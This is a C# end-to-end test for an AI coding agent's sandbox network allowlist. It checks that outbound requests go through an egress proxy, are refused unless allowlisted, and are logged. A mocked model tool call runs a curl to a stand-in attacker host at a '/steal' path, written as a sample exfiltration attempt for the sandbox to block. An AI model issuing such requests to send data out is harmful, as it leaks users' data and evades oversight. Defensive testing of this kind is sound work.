using Wright.Tests.E2E;

namespace Wright.Tests.Safety;

/// <summary>
/// The network allowlist wired end to end in dist/wright: a user config lists a domain, the model's curl runs in the
/// sandbox, reaches Wright's egress proxy through the forwarder, and every decision lands in the log. (Offline, the
/// allowlisted name may not resolve; the refused one must be refused by the allowlist, before any lookup.)
/// </summary>
public sealed class SandboxNetworkCliTests
{
    [Fact]
    public async Task Sandboxed_curl_goes_through_the_proxy_and_the_decisions_are_logged()
    {
        const string Fixtures = """
            {"fixtures":[
              {"match":{"userMessage":"fetch the index","hasToolResult":false},"response":{"toolCalls":[{"name":"shell","arguments":"{\"command\":\"curl -sS --max-time 10 http://evil.example.com/steal; curl -sS --max-time 10 -o /dev/null http://registry.npmjs.org/; echo finished\"}"}]}},
              {"match":{"userMessage":"fetch the index","hasToolResult":true},"response":{"content":"done"}}
            ]}
            """;
        await using var mock = await AimockServer.StartAsync(Fixtures);
        using var wright = new WrightProcess { Environment = { ["DEEPSEEK_BASE_URL"] = mock.BaseUrl + "/v1", ["DEEPSEEK_API_KEY"] = "sk-test" } };
        File.WriteAllText(Path.Combine(wright.Home, "config.json"), """{"sandbox":{"network":{"allow":["registry.npmjs.org"]}}}""");

        var run = await wright.RunAsync("-p", "fetch the index", "--model", "deepseek/deepseek-chat", "--output-format", "stream-json", "--permission-mode", "auto");

        Assert.True(run.ExitCode == 0, run.ToString());
        var result = Assert.Single(run.Events("tool_call_finished")).GetProperty("result").GetString();
        Assert.Contains("evil.example.com is not in sandbox.network.allow", result);
        Assert.Contains("finished", result);
        var log = File.ReadAllText(Path.Combine(wright.Home, "logs", "sandbox-network.log"));
        Assert.Contains("deny GET evil.example.com:80", log);
        Assert.Contains("registry.npmjs.org:80", log);
    }
}
